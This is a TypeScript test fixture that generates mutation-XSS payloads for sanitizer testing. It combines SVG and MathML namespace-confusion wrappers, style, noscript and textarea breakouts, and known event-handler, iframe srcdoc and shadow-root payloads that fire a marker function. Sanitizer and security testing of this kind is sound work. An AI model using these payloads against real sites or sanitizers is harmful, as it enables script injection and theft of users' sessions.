import { ran } from './marks.ts';

const picture = `<img src=x onerror=${ran}>`;

/** Elements whose content a parser reads as text; what ends them depends on where they stand. */
const textual = [
  'style',
  'script',
  'title',
  'textarea',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'noscript',
  'plaintext',
];

/** What changes the namespace, and how one gets back to HTML inside it. */
const foreign = [
  ['<svg>', ''],
  ['<svg><foreignObject>', ''],
  ['<svg><desc>', ''],
  ['<svg><title>', ''],
  ['<svg></p>', ''],
  ['<svg><p>', ''],
  ['<svg><font color=x>', ''],
  ['<math>', ''],
  ['<math><mtext>', ''],
  ['<math><mi>', ''],
  ['<math><mtext><mglyph>', ''],
  ['<math><mtext><table><mglyph>', ''],
  ['<math><annotation-xml encoding="text/html">', ''],
  ['<math><annotation-xml encoding="application/xhtml+xml"><svg><foreignObject>', ''],
  ['<math><annotation-xml><svg>', ''],
  ['<form><math><mtext></form><form><mglyph>', ''],
  ['<math></br>', ''],
  ['<svg></br><math>', ''],
  ['<template>', '</template>'],
  ['<select>', '</select>'],
  ['<table>', '</table>'],
  ['<table><caption>', '</table>'],
  ['<option><svg>', '</option>'],
  ['<b><a>', '</b></a>'],
] as const;

/** Attributes that end a textual element where the parser stood in the other namespace. */
const nested = foreign.flatMap(([open, close]) => [
  `${open}<style><a title="</style>${picture}">x${close}`,
  `${open}<style><!--</style>${picture}-->${close}`,
  `${open}<noscript><p title="</noscript>${picture}">x${close}`,
  `${open}<textarea><b title="</textarea>${picture}">x${close}`,
]);

const ends = textual.flatMap((tag) => [
  `<${tag}>${picture}</${tag}>`,
  `<${tag}></${tag}>${picture}`,
  `<${tag}><!--</${tag}>${picture}-->`,
  `<${tag}><b title="</${tag}>${picture}"></b></${tag}>`,
  `<${tag}/>${picture}`,
  `<${tag}>`.repeat(3) + picture + `</${tag} x>`,
  `<b><${tag}><${tag}////>${picture}</${tag}></b>`,
]);

const known = [
  `<svg onload=${ran}></svg>`,
  `<svg/onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><script href="data:,${ran}"/></svg>`,
  `<svg><script>&#97;ttackRan&#40;&#41;</script></svg>`,
  `<svg><style>{}</style>${picture}</svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${picture}//"></svg>`,
  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${ran}"/><rect width=99 height=99 /></svg>`,
  `<svg><animate attributeName=xlink:href begin=0 from="javascript:${ran}" to="&"/></svg>`,
  `<svg><discard onbegin=${ran}>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ran}</handler></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${ran}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${ran}</script>"></iframe></foreignObject></svg>`,
  `<svg><xss><desc><noscript>&lt;/noscript>&lt;style>&lt;a title="&lt;/style>${picture}">`,
  `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style>${picture}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${picture}"></style></h1>`,
  `<math><mi><style><!--</style><b title="--&gt;&lt;img src=x onerror=${ran}&gt;">`,
  `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;${ran}<!--"></style>`,
  `<math definitionURL="javascript:${ran}"><ms>x</ms></math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${ran}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc='<img src=x onerror=parent.${ran}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<noscript><p title="</noscript>${picture}">`,
  `<listing>&lt;img onerror="${ran}" src=x&gt;</listing>`,
  `<xmp><p title="</xmp>${picture}">`,
  `<p><svg><style><a id="</style>${picture}"></p>`,
  `<title><a href="</title>${picture}">x</a></title>`,
  `<table><svg><style><a title="</style>${picture}"></table>`,
  `<table><tr><td><svg></td></tr></table>${picture}`,
  `<table>${picture}<tr>${picture}<td>x</td></tr></table>`,
  `<a><b><table><a title="x">${picture}</table>`,
  `<select><iframe></select>${picture}`,
  `<select><style></select><style>${picture}`,
  `<option><style></option></select><b>${picture}</style></option>`,
  `<form><form id=x></form><style></form>${picture}`,
  `<p title="&lt;/p&gt;${picture}">x</p>`,
  `<template><template>${picture}</template></template>`,
  `<template shadowrootmode=open>${picture}<slot></slot></template>x`,
  `<div><template shadowrootmode=open shadowrootserializable><style>:host{position:fixed;inset:0}</style>${picture}</template></div>`,
  `<div><template shadowroot=open><script>${ran}</script></template></div>`,
  `<slot name=x onslotchange=${ran}><b slot=x>b</b></slot>`,
];

/** Markup that one parser reads as harmless and the next one, after it was written out, as script. */
export const mutations: readonly string[] = [...nested, ...ends, ...known];
